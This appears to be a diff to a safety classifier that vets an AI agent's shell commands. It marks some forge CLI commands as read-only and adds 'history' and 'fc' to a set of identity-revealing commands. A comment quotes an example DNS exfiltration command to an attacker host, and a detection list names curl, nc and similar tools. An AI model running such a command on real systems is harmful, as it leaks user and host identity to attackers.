@@ -134,6 +134,10 @@ def forge_read(cmd: Cmd) -> bool:
     words = [a for a in cmd.args() if not a.startswith("-")]
     if words[:1] and words[0] in _FORGE_TOP and len(words) == 1:
         return True
+    if words == ["auth", "status"]:  # who is logged in; the token only with --show-token
+        return not {"-t", "--show-token"} & set(cmd.args())
+    if words[:2] in (["repo", "clone"], ["pr", "checkout"]) and len(words) > 2:
+        return True  # a clone (where it writes: rules.clones) or a branch fetched here
     if len(words) < 2 or words[0] not in _FORGE_NOUNS:
         return False
     return words[0] == "search" or words[1] in _FORGE_READS
@@ -369,7 +373,7 @@ def _ssh(cmd: Cmd, ctx: Context) -> Iterator[Result]:
 # reconnaissance (``nslookup "$(whoami).$(hostname).x.attacker.net"``).
 # (``uname -m`` is not among them: download addresses name the platform.)
 _IDENTITY = frozenset({"whoami", "hostname", "id", "logname", "users", "groups", "ifconfig",
-                       "ip", "env", "printenv", "hostid"})  # fmt: skip
+                       "ip", "env", "printenv", "hostid", "history", "fc"})  # fmt: skip
 _IDENTITY_VARIABLES = re.compile(r"\$\{?(USER|LOGNAME|USERNAME|HOSTNAME|HOST)\b\}?")
 _REQUEST_SENDERS = frozenset({"curl", "wget", "http", "https", "xh", "nslookup", "dig", "host",
                               "drill", "ping", "nc", "ncat", "netcat", "telnet"})  # fmt: skip
